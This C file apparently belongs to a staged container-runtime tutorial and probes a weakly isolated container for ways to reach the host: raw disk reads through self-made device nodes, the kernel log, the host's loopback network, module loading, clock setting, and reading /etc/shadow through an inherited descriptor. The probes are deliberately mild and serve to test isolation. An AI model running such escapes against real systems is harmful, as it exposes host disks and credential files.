/*
 * attack.c (07-cgroups) - reach the machine below the container: its disk,
 * its kernel's log, its network, its modules, its clock, and its files
 * through a descriptor that was left open.
 *
 *     A="-v build/attacks:/attacks:ro"
 *     sudo ./stage-7 $A /attacks/attack-7 disk
 *     sudo sh -c "./stage-7 $A /attacks/attack-7 descriptor 7</"
 *
 * attack-7 disk [MAJOR:MINOR [OFFSET]]: makes a device node and reads.
 * attack-7 kernel-log: prints what dmesg would.
 * attack-7 network PORT: talks to a server on the host's 127.0.0.1.
 * attack-7 module: asks the kernel to load 16 bytes that are no module.
 * attack-7 clock: sets the clock, to the time that it is.
 * attack-7 descriptor [PATH]: reads the host's PATH (/etc/shadow) through an
 *     inherited descriptor of a folder.
 *
 * Root in stage 7 is still root to the kernel. Stage 8 takes away the
 * capabilities (module, clock, log), filters devices, gives the container
 * its own network, and closes what it inherited.
 *
 * Exit status: 0 it worked, 1 it was stopped, 2 it could not be tried.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

enum { WORKED, STOPPED, NOT_TRIED };

static int stopped(const char *what)
{
    printf("stopped: %s: %s\n", what, strerror(errno));
    return STOPPED;
}

/*
 * Opens the device `device` by a node of our own, in whichever folder lets
 * us. Returns the descriptor, or -1 and the errno of the last try.
 */
static int open_device(mode_t type, dev_t device)
{
    static const char *const folders[] = {"/dev", "", "/root", "/tmp"};
    int fd = -1;

    for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++) {
        char path[64];

        snprintf(path, sizeof(path), "%s/attack-7.%d", folders[i],
                 (int)getpid());
        if (mknod(path, type | 0600, device) == -1)
            continue;
        fd = open(path, O_RDONLY | O_NONBLOCK);
        int number = errno;
        unlink(path);
        errno = number;
        if (fd != -1)
            return fd;
    }
    return fd;
}

/* The first disk that /proc/partitions lists and that has a medium. */
static dev_t find_disk(void)
{
    FILE *list = fopen("/proc/partitions", "r");
    unsigned major_number, minor_number;
    char line[256], name[64];
    dev_t found = 0;

    while (list && !found && fgets(line, sizeof(line), list))
        if (sscanf(line, "%u %u %*u %63s", &major_number, &minor_number,
                   name) == 3 &&
            strncmp(name, "loop", 4) != 0 && strncmp(name, "zram", 4) != 0 &&
            strncmp(name, "ram", 3) != 0 && strncmp(name, "sr", 2) != 0)
            found = makedev(major_number, minor_number);
    if (list)
        fclose(list);
    return found;
}

static int read_disk(const char *numbers, const char *offset)
{
    unsigned major_number, minor_number;
    unsigned char bytes[32];
    dev_t disk;
    int fd;

    if (numbers && sscanf(numbers, "%u:%u", &major_number, &minor_number) == 2)
        disk = makedev(major_number, minor_number);
    else
        disk = find_disk();
    if (!disk) {
        printf("there is no disk in /proc/partitions\n");
        return NOT_TRIED;
    }
    fd = open_device(S_IFBLK, disk);
    if (fd == -1)
        return stopped("open a node of the disk");
    if (pread(fd, bytes, sizeof(bytes), atoll(offset ? offset : "1024")) !=
        sizeof(bytes))
        return stopped("read the disk");
    close(fd);
    printf("disk %u:%u holds ", major(disk), minor(disk));
    for (size_t i = 0; i < sizeof(bytes); i++)
        printf("%02x", bytes[i]);
    printf("\n");
    return WORKED;
}

/* Each read(2) of /dev/kmsg gives one record. */
static int print_records(int fd)
{
    char record[8192];
    ssize_t size;
    int count = 0;

    while ((size = read(fd, record, sizeof(record))) > 0 ||
           (size == -1 && errno == EPIPE))
        if (size > 0) {
            fwrite(record, 1, (size_t)size, stdout);
            count++;
        }
    close(fd);
    return count ? WORKED : STOPPED;
}

static int read_kernel_log(void)
{
    enum { READ_ALL = 3 };
    static char text[1 << 18];
    int fd = open("/dev/kmsg", O_RDONLY | O_NONBLOCK);
    int size;

    if (fd == -1)
        fd = open_device(S_IFCHR, makedev(1, 11));
    if (fd != -1)
        return print_records(fd);
    size = klogctl(READ_ALL, text, sizeof(text));
    if (size == -1)
        return stopped("open /dev/kmsg, and syslog(2)");
    fwrite(text, 1, (size_t)size, stdout);
    return WORKED;
}

static int use_network(const char *port)
{
    struct sockaddr_in address = {.sin_family = AF_INET};
    char text[256];
    ssize_t size;
    int fd;

    if (!port) {
        fprintf(stderr, "usage: attack-7 network PORT\n");
        return NOT_TRIED;
    }
    address.sin_port = htons((uint16_t)atoi(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd == -1)
        return stopped("socket");
    if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == -1)
        return stopped("connect to the host's loopback");
    size = read(fd, text, sizeof(text));
    close(fd);
    printf("the host's server says: %.*s\n", (int)(size > 0 ? size : 0), text);
    return WORKED;
}

static int load_module(void)
{
    static char bytes[16] = "not a module";

    syscall(SYS_init_module, bytes, sizeof(bytes), "");
    if (errno == ENOSYS) {
        printf("this kernel has no modules\n");
        return NOT_TRIED;
    }
    if (errno != ENOEXEC)
        return stopped("init_module");
    printf("the kernel would have loaded a true module\n");
    return WORKED;
}

static int set_clock(void)
{
    struct timespec now;

    clock_gettime(CLOCK_REALTIME, &now);
    if (clock_settime(CLOCK_REALTIME, &now) == -1)
        return stopped("clock_settime");
    printf("set the machine's clock\n");
    return WORKED;
}

static int use_descriptor(const char *path)
{
    char text[256];

    for (int folder = 3; folder < 1024; folder++) {
        int fd = openat(folder, path + (*path == '/'), O_RDONLY);
        ssize_t size;

        if (fd == -1)
            continue;
        size = read(fd, text, sizeof(text));
        close(fd);
        if (size == -1)
            continue;
        printf("through descriptor %d, %s begins with: %.*s\n", folder, path,
               (int)size, text);
        return WORKED;
    }
    printf("stopped: no descriptor leads to the host's %s\n", path);
    return STOPPED;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    const char *first = argc > 2 ? argv[2] : NULL;

    if (strcmp(what, "disk") == 0)
        return read_disk(first, argc > 3 ? argv[3] : NULL);
    if (strcmp(what, "kernel-log") == 0)
        return read_kernel_log();
    if (strcmp(what, "network") == 0)
        return use_network(first);
    if (strcmp(what, "module") == 0)
        return load_module();
    if (strcmp(what, "clock") == 0)
        return set_clock();
    if (strcmp(what, "descriptor") == 0)
        return use_descriptor(first ? first : "/etc/shadow");
    fprintf(stderr, "usage: attack-7 disk [MAJOR:MINOR [OFFSET]] | kernel-log |"
                    " network PORT |\n"
                    "       module | clock | descriptor [PATH]\n");
    return NOT_TRIED;
}
